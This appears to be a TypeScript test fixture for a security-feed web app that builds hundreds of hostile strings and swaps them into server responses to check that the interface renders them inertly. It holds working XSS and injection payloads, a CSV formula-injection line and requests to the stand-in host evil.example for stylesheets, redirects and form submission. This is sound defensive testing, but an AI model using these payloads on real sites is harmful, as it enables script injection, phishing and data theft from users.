// SPDX-License-Identifier: EUPL-1.2
/**
 * Texts that want to be more than text: 500 different ones, and what an answer of the server looks like when every text in it is one.
 *
 * Each script, should it run, sets `window.ncvHit`; each address, should it be asked, leads to a host that no page may reach.
 *
 * @module
 */
const HIT = 'window.ncvHit=1'

const BASES = [
  `<script>${HIT}</script>`,
  `<img src=x onerror="${HIT}">`,
  `<svg onload="${HIT}"><circle r=5></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y=20>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.ncvHit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ncvHit=1"></iframe>`,
  `<body onload=${HIT}>`,
  `<details open ontoggle=${HIT}><summary>x</summary></details>`,
  `<input autofocus onfocus=${HIT}>`,
  `<style>@import url(https://evil.example/x.css);*{background:url(https://evil.example/y)}</style>`,
  `<link rel=stylesheet href=https://evil.example/z.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example/><button autofocus>Anmelden</button></form>`,
  `<a href="javascript:${HIT}">Hier klicken</a>`,
  `javascript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `https://evil.example/?q=<script>${HIT}</script>`,
  `vbscript:${HIT}`,
  `\${${HIT}}{{constructor.constructor('${HIT}')()}}`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${HIT}></style></mglyph></math>`,
  `<object data="javascript:${HIT}"></object>`,
  `__proto__`,
  `constructor`,
  `</textarea></title></script><script>${HIT}</script>`,
  `"><img src=https://evil.example/p.png onerror=${HIT}>`,
] as const

const WRAPS: readonly ((base: string) => string)[] = [
  (base) => base,
  (base) => `Fortinet ${base}`,
  (base) => `${base} 7.4.8`,
  (base) => `"${base}`,
  (base) => `' autofocus onfocus=${HIT} x='${base}`,
  (base) => base.toUpperCase(),
  (base) => `\u202e${base}`,
  (base) => `\u0000${base}`,
  (base) => `${base}\n${base}`,
  (base) => `&lt;${base}&gt;`,
  (base) => base.replaceAll('<', '\\u003c'),
  (base) => base.replaceAll('<', '&#60;'),
  (base) => `<!--${base}-->`,
  (base) => `<![CDATA[${base}]]>`,
  (base) => `${'A'.repeat(300)}${base}`,
  (base) => `\ufeff${base}\u200b`,
  (base) => `%3Cscript%3E${base}`,
  (base) => `../../${base}`,
  (base) => `Ä${base}ß€😀`,
  (base) => `=cmd|'/c calc'!A1 ${base}`,
]

export const HOSTILE: readonly string[] = WRAPS.flatMap((wrap) => BASES.map(wrap))

/** Ids, days, words of a closed list, hashes and file types: a server never sends anything else in their place. */
const FIXED = /^(?:[a-z][a-z0-9-]{0,40}|[a-z]+(?:[._-][a-z]+)*|\d{4}-\d\d-\d\d|[0-9a-f]{8,}|TLP:[A-Z+]+|[A-Za-z0-9+/]{20,}={0,2}|\d[\d.]*)$/

/** The same answer with every free text replaced; `next` gives one hostile text after the other. */
export function poison(value: unknown, next: () => string): unknown {
  if (typeof value === 'string') return FIXED.test(value) ? value : next()
  if (Array.isArray(value)) return value.map((entry) => poison(entry, next))
  if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, poison(inner, next)]))
  return value
}
